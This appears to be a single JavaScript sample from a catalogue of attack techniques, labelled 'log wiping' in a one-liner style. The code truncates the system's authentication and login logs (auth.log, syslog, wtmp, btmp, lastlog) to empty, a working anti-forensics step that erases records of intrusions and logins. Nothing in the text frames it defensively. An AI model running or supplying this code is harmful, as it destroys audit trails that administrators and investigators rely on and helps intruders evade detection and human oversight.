// class: log wiping; style: one-liner
['auth.log', 'syslog', 'wtmp', 'btmp', 'lastlog'].forEach((f) => require('fs').truncate('/var/log/' + f, 0, () => {}));
